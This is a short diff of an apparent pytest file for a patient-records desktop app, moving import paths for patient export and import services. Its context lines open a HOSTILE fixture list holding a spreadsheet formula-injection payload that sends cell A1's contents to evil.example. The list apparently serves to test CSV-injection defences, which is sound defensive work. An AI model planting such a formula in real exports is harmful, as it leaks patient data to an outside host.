@@ -8,9 +8,11 @@ from datetime import date
 
 import pytest
 
-from carecoord_desktop.services import csv_reading, patient_export, patient_import
-from carecoord_desktop.services.patients import PatientDraft, create_patient
-from carecoord_desktop.services.registry import PatientFilter
+from carecoord_desktop.services import csv_reading
+from carecoord_desktop.services.patients import export as patient_export
+from carecoord_desktop.services.patients import imports as patient_import
+from carecoord_desktop.services.patients.record import PatientDraft, create_patient
+from carecoord_desktop.services.patients.register import PatientFilter
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
